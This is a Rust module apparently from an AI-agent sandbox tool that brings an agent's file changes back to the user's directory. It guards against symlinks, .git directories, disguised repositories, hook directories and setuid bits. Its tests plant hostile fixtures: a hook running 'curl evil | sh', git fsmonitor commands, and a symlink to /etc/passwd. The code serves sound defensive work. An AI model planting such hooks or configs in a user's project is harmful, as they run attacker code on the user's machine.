//! `paddock session diff` and `apply`: the agent's work brought back from its copy ([`super::workspace`]) to
//! the user's directory, as data. No git runs on the copy (its configuration is the agent's), nothing named
//! `.git` comes back at any depth, symlinks and special files never come back, and every write lands in a
//! real directory of the user's tree (never through a symlink). A file the user changed since the session
//! started is a conflict, and a conflict refuses the whole apply before anything is written.

use std::collections::BTreeSet;
use std::io::Write;
use std::os::unix::fs::{OpenOptionsExt, PermissionsExt};
use std::path::{Component, Path};

use serde::Serialize;
use serde_json::{Value, json};

use super::workspace::{self, Change, Entry};
use crate::terminal;

/// Marks a session whose work was applied (a second apply is refused).
const APPLIED: &str = "applied";

#[derive(Debug, thiserror::Error)]
pub enum ApplyError {
    #[error("{0}")]
    Conflict(String),
    #[error("{0}")]
    Refused(String),
    #[error(transparent)]
    Other(#[from] anyhow::Error),
}

/// One change as the user sees it: whether it would be applied, and why not.
#[derive(Debug, Serialize)]
pub struct Planned {
    #[serde(flatten)]
    pub change: Change,
    pub applies: bool,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub note: Option<String>,
    /// Applied, but read by tools that may run commands (direnv, git-lfs, editors, make): worth a look.
    pub review: bool,
}

/// The session's changes against its base, each with what apply would do with it.
pub struct Plan {
    pub source: Option<std::path::PathBuf>,
    pub copy: std::path::PathBuf,
    pub changes: Vec<Planned>,
    pub ignored: Vec<String>,
    pub conflicts: Vec<String>,
    pub applied: bool,
}

/// Why a change is never brought back, if it is not.
fn never(c: &Change) -> Option<String> {
    let kind = |e: &Option<Entry>| match e {
        Some(Entry::Symlink { target }) => Some(format!("a symlink (to `{}`)", terminal::line(target))),
        Some(Entry::Other) => Some("a special file".to_owned()),
        _ => None,
    };
    kind(&c.after)
        .or_else(|| kind(&c.before))
        .map(|what| format!("not brought back: {what}; symlinks and special files are never applied"))
}

/// Directories git would take for a repository of their own (a bare one, or one whose `core.worktree` points
/// anywhere): those holding a `HEAD`, in the copy or in the user's tree. Git also wants `objects` and
/// `refs` beside it, which an agent adds as easily, so `HEAD` alone decides.
fn repo_like_dirs<'a>(paths: impl Iterator<Item = &'a String>) -> BTreeSet<String> {
    paths
        .filter_map(|p| {
            let (dir, name) = p.rsplit_once('/').unwrap_or(("", p));
            name.eq_ignore_ascii_case("HEAD").then(|| dir.to_owned())
        })
        .collect()
}

/// Where the user's own git runs hooks from, when that is inside the workspace (husky and the like:
/// `core.hooksPath=.husky/_`): that directory and its parent, relative to the workspace. Read from the
/// user's repository, whose configuration is theirs (the agent never wrote to it).
fn hook_dirs(source: &Path) -> Vec<String> {
    let out = std::process::Command::new("git")
        .args(["config", "--get", "core.hooksPath"])
        .current_dir(source)
        .stdin(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .output();
    let Ok(out) = out else { return Vec::new() };
    let value = String::from_utf8_lossy(&out.stdout).trim().to_owned();
    if value.is_empty() {
        return Vec::new();
    }
    let abs = if Path::new(&value).is_absolute() { value.into() } else { source.join(&value) };
    let abs = std::fs::canonicalize(&abs).unwrap_or(abs);
    let Ok(rel) = abs.strip_prefix(source) else { return Vec::new() };
    let rel = rel.to_string_lossy().into_owned();
    let parent = Path::new(&rel).parent().map(|p| p.to_string_lossy().into_owned()).unwrap_or_default();
    [rel, parent].into_iter().filter(|d| !d.is_empty()).collect()
}

fn under(path: &str, dir: &str) -> bool {
    dir.is_empty() || path.strip_prefix(dir).is_some_and(|rest| rest.starts_with('/'))
}

/// Files that other tools on the user's machine read and may act on: applied, but named for review.
const REVIEW: [&str; 9] = [
    ".envrc",
    ".lfsconfig",
    ".gitattributes",
    ".gitmodules",
    ".vscode",
    ".idea",
    ".devcontainer",
    ".husky",
    "Makefile",
];

/// The state of `rel` in the user's directory now, or a conflict.
fn current(source: &Path, rel: &str) -> Result<Option<Entry>, String> {
    let mut dir = source.to_path_buf();
    let parts: Vec<&str> = rel.split('/').collect();
    for (i, part) in parts.iter().enumerate() {
        let p = Path::new(part);
        if p.components().count() != 1 || !matches!(p.components().next(), Some(Component::Normal(_))) {
            return Err(format!("`{}`: not a plain relative path", terminal::line(rel)));
        }
        dir.push(part);
        let last = i + 1 == parts.len();
        match std::fs::symlink_metadata(&dir) {
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
            Err(e) => return Err(format!("`{}`: {e}", terminal::line(rel))),
            Ok(m) if !last && (!m.is_dir() || m.file_type().is_symlink()) => {
                return Err(format!(
                    "`{}`: `{}` is not a directory in your tree (a file or a symlink); nothing is written through it",
                    terminal::line(rel),
                    terminal::line(&parts[..=i].join("/"))
                ));
            }
            Ok(m) if last && m.file_type().is_symlink() => {
                let target = std::fs::read_link(&dir).map_err(|e| e.to_string())?;
                return Ok(Some(Entry::Symlink { target: target.to_string_lossy().into_owned() }));
            }
            Ok(m) if last && m.is_dir() => {
                return Err(format!("`{}` is a directory in your tree", terminal::line(rel)));
            }
            Ok(m) if last && !m.is_file() => return Ok(Some(Entry::Other)),
            Ok(_) if last => return workspace::file_entry(&dir).map(Some).map_err(|e| format!("{e:#}")),
            Ok(_) => {}
        }
    }
    Ok(None)
}

/// Same content: a file's hash (its executable bit is not a conflict), a link's target, or both absent.
fn same(a: &Option<Entry>, b: &Option<Entry>) -> bool {
    match (a, b) {
        (Some(Entry::File { sha256: x, .. }), Some(Entry::File { sha256: y, .. })) => x == y,
        _ => a == b,
    }
}

/// Compares the session's copy with its base and the user's directory.
pub fn plan(session_dir: &Path) -> anyhow::Result<Plan> {
    let base = workspace::load_base(session_dir)?;
    let copy = session_dir.join(workspace::COPY);
    let now = workspace::walk(&copy)?;
    let mut conflicts = Vec::new();
    let repos = repo_like_dirs(base.entries.keys().chain(now.entries.keys()));
    let hooks = base.source.as_deref().map(hook_dirs).unwrap_or_default();
    let changes = workspace::changes(&base.entries, &now.entries)
        .into_iter()
        .map(|change| {
            let note = never(&change)
                .or_else(|| {
                    repos.iter().find(|d| under(&change.path, d)).map(|d| {
                        format!(
                            "not brought back: inside `{}`, which git would take for a repository (it holds HEAD)",
                            terminal::line(if d.is_empty() { "." } else { d })
                        )
                    })
                })
                .or_else(|| {
                    hooks.iter().find(|d| under(&change.path, d)).map(|d| {
                        format!("not brought back: your git runs hooks from `{}` (core.hooksPath)", terminal::line(d))
                    })
                });
            let applies = note.is_none();
            let review =
                applies && change.path.split('/').any(|part| REVIEW.iter().any(|r| part.eq_ignore_ascii_case(r)));
            if applies && let Some(src) = &base.source {
                match current(src, &change.path) {
                    Ok(cur) if same(&cur, &change.before) => {}
                    Ok(_) => conflicts.push(format!(
                        "`{}`: changed in your directory since the session started",
                        terminal::line(&change.path)
                    )),
                    Err(e) => conflicts.push(e),
                }
            }
            Planned { change, applies, note, review }
        })
        .collect();
    Ok(Plan {
        source: base.source,
        copy,
        changes,
        ignored: now.ignored,
        conflicts,
        applied: session_dir.join(APPLIED).exists(),
    })
}

/// A unified diff of the changes that apply, from the user's directory to the copy, by `diff -u` on the
/// two files (it reads them as data). Names in its headers are made inert for a terminal.
pub fn unified_diff(p: &Plan) -> String {
    let mut out = String::new();
    // A note shared by many paths (a whole directory left behind) is said once, with the count.
    let mut notes: Vec<(&str, Vec<&str>)> = Vec::new();
    for c in &p.changes {
        if let Some(note) = &c.note {
            match notes.iter_mut().find(|(n, _)| *n == note.as_str()) {
                Some((_, paths)) => paths.push(&c.change.path),
                None => notes.push((note, vec![&c.change.path])),
            }
        }
    }
    for (note, paths) in &notes {
        match paths.as_slice() {
            [one] => out.push_str(&format!("# {}: {note}\n", terminal::line(one))),
            many => out.push_str(&format!("# {} paths: {note}\n", many.len())),
        }
    }
    for c in &p.changes {
        let name = terminal::line(&c.change.path);
        if c.note.is_some() {
            continue;
        }
        let old = match (&c.change.before, &p.source) {
            (Some(_), Some(src)) => src.join(&c.change.path),
            _ => "/dev/null".into(),
        };
        let new = if c.change.after.is_some() { p.copy.join(&c.change.path) } else { "/dev/null".into() };
        let res = std::process::Command::new("diff")
            .args(["-u", "--label", &format!("a/{name}"), "--label", &format!("b/{name}")])
            .arg(&old)
            .arg(&new)
            .env_clear()
            .env("LC_ALL", "C")
            .stdin(std::process::Stdio::null())
            .output();
        match res {
            Ok(o) if o.status.code() == Some(1) || o.status.success() => {
                let text = String::from_utf8_lossy(&o.stdout);
                if text.is_empty() {
                    // Nothing to show line by line: an empty file, or the same content with another mode.
                    match c.change.change {
                        "added" => out.push_str(&format!("# added empty file {name}\n")),
                        "deleted" => out.push_str(&format!("# deleted empty file {name}\n")),
                        _ => out.push_str(&format!("# mode of {name} changed\n")),
                    }
                } else {
                    out.push_str(&text);
                    if !text.ends_with('\n') {
                        out.push('\n');
                    }
                }
            }
            Ok(o) => out.push_str(&format!(
                "# {name}: diff failed: {}\n",
                terminal::line(String::from_utf8_lossy(&o.stderr).trim())
            )),
            Err(e) => out.push_str(&format!("# {name}: cannot run diff: {e}\n")),
        }
    }
    out
}

/// The plan as the API's answer.
pub fn to_json(id: &str, p: &Plan, diff: Option<String>) -> Value {
    json!({
        "session": id,
        "source": p.source,
        "workspace": p.copy,
        "changes": p.changes,
        "ignored": p.ignored,
        "conflicts": p.conflicts,
        "applied": p.applied,
        "diff": diff,
    })
}

/// Applies the plan to the user's directory: all or nothing as far as the checks go (every conflict is
/// found before the first write). Returns the paths written or deleted.
pub fn apply(session_dir: &Path, p: &Plan) -> Result<Vec<String>, ApplyError> {
    let Some(src) = &p.source else {
        return Err(ApplyError::Refused(format!(
            "this session worked in a fresh workspace, not a copy of your directory; its files are in `{}` \
             (read them there; do not run git in it: its git configuration is the agent's)",
            p.copy.display()
        )));
    };
    if p.applied {
        return Err(ApplyError::Refused("this session's changes were applied already".into()));
    }
    if !p.conflicts.is_empty() {
        return Err(ApplyError::Conflict(format!(
            "nothing applied; resolve these first (or copy by hand from `{}`):\n  {}",
            p.copy.display(),
            p.conflicts.join("\n  ")
        )));
    }
    let mut done = Vec::new();
    for c in p.changes.iter().filter(|c| c.applies) {
        let target = src.join(&c.change.path);
        match &c.change.after {
            Some(Entry::File { executable, .. }) => {
                write_file(&p.copy.join(&c.change.path), &target, *executable)
                    .map_err(|e| anyhow::anyhow!("cannot write `{}`: {e}", target.display()))?;
            }
            None => std::fs::remove_file(&target)
                .map_err(|e| anyhow::anyhow!("cannot delete `{}`: {e}", target.display()))?,
            Some(_) => continue,
        }
        done.push(c.change.path.clone());
    }
    std::fs::write(session_dir.join(APPLIED), done.join("\n")).map_err(anyhow::Error::from)?;
    Ok(done)
}

/// Copies one regular file of the agent's copy to the user's tree: parents created as plain directories,
/// the content written to a temporary file beside the target and renamed over it, mode 0644 or 0755
/// (never setuid, setgid or sticky).
fn write_file(from: &Path, to: &Path, executable: bool) -> std::io::Result<()> {
    let parent = to.parent().ok_or_else(|| std::io::Error::other("no parent directory"))?;
    std::fs::create_dir_all(parent)?;
    let mut input = workspace::open_regular(from)?;
    let tmp = parent.join(format!(".paddock-apply-{}", paddock_gateway::gateway::random_hex(6)));
    let mode = if executable { 0o755 } else { 0o644 };
    let result = (|| {
        let mut out = std::fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .mode(mode)
            .custom_flags(libc::O_NOFOLLOW)
            .open(&tmp)?;
        std::io::copy(&mut input, &mut out)?;
        out.set_permissions(std::fs::Permissions::from_mode(mode))?;
        out.flush()?;
        std::fs::rename(&tmp, to)
    })();
    if result.is_err() {
        let _ = std::fs::remove_file(&tmp);
    }
    result
}

#[cfg(test)]
mod tests {
    use super::*;

    fn session(src: &Path) -> (tempfile::TempDir, std::path::PathBuf) {
        let dir = tempfile::tempdir().unwrap();
        let copy = workspace::prepare(dir.path(), Some(src)).unwrap();
        (dir, copy)
    }

    #[test]
    fn brings_back_files_and_nothing_of_git_links_or_special_files() {
        let user = tempfile::tempdir().unwrap();
        let src = user.path();
        std::fs::create_dir_all(src.join(".git")).unwrap();
        std::fs::write(src.join(".git/config"), "[core]\n").unwrap();
        std::fs::write(src.join("keep.txt"), "keep").unwrap();
        std::fs::write(src.join("edit.txt"), "old\n").unwrap();
        std::fs::write(src.join("gone.txt"), "bye").unwrap();
        let (s, copy) = session(src);
        std::fs::write(copy.join("edit.txt"), "new\n").unwrap();
        std::fs::remove_file(copy.join("gone.txt")).unwrap();
        std::fs::create_dir_all(copy.join("src/deep")).unwrap();
        std::fs::write(copy.join("src/deep/run.sh"), "#!/bin/sh\n").unwrap();
        std::fs::set_permissions(copy.join("src/deep/run.sh"), std::fs::Permissions::from_mode(0o4777)).unwrap();
        std::fs::write(copy.join(".git/config"), "[core]\nfsmonitor = touch /tmp/x\n").unwrap();
        std::fs::create_dir_all(copy.join("sub/.git/hooks")).unwrap();
        std::fs::write(copy.join("sub/.git/hooks/post-checkout"), "#!/bin/sh\n").unwrap();
        std::fs::write(copy.join("dir-with-gitfile"), "x").unwrap();
        std::fs::create_dir_all(copy.join("w")).unwrap();
        std::fs::write(copy.join("w/.git"), "gitdir: /tmp/elsewhere\n").unwrap();
        std::os::unix::fs::symlink("/etc/passwd", copy.join("escape")).unwrap();
        let p = plan(s.path()).unwrap();
        assert!(p.conflicts.is_empty(), "{:?}", p.conflicts);
        let diff = unified_diff(&p);
        assert!(diff.contains("-old\n+new\n") && diff.contains("+++ b/src/deep/run.sh"), "{diff}");
        assert!(diff.contains("# escape: not brought back: a symlink"), "{diff}");
        let done = apply(s.path(), &p).unwrap();
        assert_eq!(done, ["dir-with-gitfile", "edit.txt", "gone.txt", "src/deep/run.sh"]);
        assert_eq!(std::fs::read_to_string(src.join("edit.txt")).unwrap(), "new\n");
        assert!(!src.join("gone.txt").exists());
        let mode = std::fs::metadata(src.join("src/deep/run.sh")).unwrap().permissions().mode();
        assert_eq!(mode & 0o7777, 0o755, "executable, never setuid");
        assert_eq!(std::fs::read_to_string(src.join(".git/config")).unwrap(), "[core]\n");
        assert!(!src.join("sub").exists() && !src.join("w").exists() && !src.join("escape").exists());
        assert!(matches!(apply(s.path(), &plan(s.path()).unwrap()), Err(ApplyError::Refused(_))));
    }

    #[test]
    fn a_repository_in_disguise_and_the_users_hook_directory_stay_behind() {
        let user = tempfile::tempdir().unwrap();
        let src = user.path();
        let git = |args: &[&str]| {
            let ok = std::process::Command::new("git").args(args).current_dir(src).output().unwrap().status.success();
            assert!(ok, "git {args:?}");
        };
        git(&["init", "-q"]);
        git(&["config", "core.hooksPath", ".husky/_"]);
        std::fs::create_dir_all(src.join(".husky/_")).unwrap();
        std::fs::write(src.join(".husky/pre-commit"), "npm test\n").unwrap();
        let (s, copy) = session(src);
        // A directory git would open as a repository, with a worktree and an fsmonitor of the agent's.
        std::fs::create_dir_all(copy.join("vendor/x/refs")).unwrap();
        std::fs::create_dir_all(copy.join("vendor/x/objects")).unwrap();
        std::fs::write(copy.join("vendor/x/HEAD"), "ref: refs/heads/main\n").unwrap();
        std::fs::write(copy.join("vendor/x/config"), "[core]\nbare = false\nworktree = ..\nfsmonitor = evil\n")
            .unwrap();
        std::fs::write(copy.join(".husky/pre-commit"), "curl evil | sh\n").unwrap();
        std::fs::write(copy.join(".envrc"), "export X=1\n").unwrap();
        let p = plan(s.path()).unwrap();
        let by_path = |path: &str| p.changes.iter().find(|c| c.change.path == path).unwrap();
        assert!(
            !by_path("vendor/x/config").applies && by_path("vendor/x/config").note.as_ref().unwrap().contains("HEAD")
        );
        assert!(!by_path("vendor/x/HEAD").applies);
        assert!(!by_path(".husky/pre-commit").applies, "{:?}", by_path(".husky/pre-commit").note);
        assert!(by_path(".envrc").applies && by_path(".envrc").review);
        let done = apply(s.path(), &p).unwrap();
        assert_eq!(done, [".envrc"]);
        assert!(!src.join("vendor").exists());
        assert_eq!(std::fs::read_to_string(src.join(".husky/pre-commit")).unwrap(), "npm test\n");
    }

    #[test]
    fn a_conflict_or_a_symlinked_directory_refuses_everything() {
        let user = tempfile::tempdir().unwrap();
        let outside = tempfile::tempdir().unwrap();
        let src = user.path();
        std::fs::write(src.join("a.txt"), "a").unwrap();
        std::fs::write(src.join("b.txt"), "b").unwrap();
        let (s, copy) = session(src);
        std::fs::write(copy.join("a.txt"), "agent").unwrap();
        std::fs::write(copy.join("b.txt"), "agent").unwrap();
        std::fs::create_dir_all(copy.join("docs")).unwrap();
        std::fs::write(copy.join("docs/x.md"), "x").unwrap();
        // The user edits b.txt meanwhile and has a symlink `docs` to a directory outside.
        std::fs::write(src.join("b.txt"), "mine").unwrap();
        std::os::unix::fs::symlink(outside.path(), src.join("docs")).unwrap();
        let p = plan(s.path()).unwrap();
        assert_eq!(p.conflicts.len(), 2, "{:?}", p.conflicts);
        assert!(p.conflicts.iter().any(|c| c.contains("b.txt") && c.contains("changed in your directory")));
        assert!(p.conflicts.iter().any(|c| c.contains("`docs` is not a directory")));
        assert!(matches!(apply(s.path(), &p), Err(ApplyError::Conflict(_))));
        assert_eq!(std::fs::read_to_string(src.join("a.txt")).unwrap(), "a", "nothing was written");
        assert!(std::fs::read_dir(outside.path()).unwrap().next().is_none());
    }
}
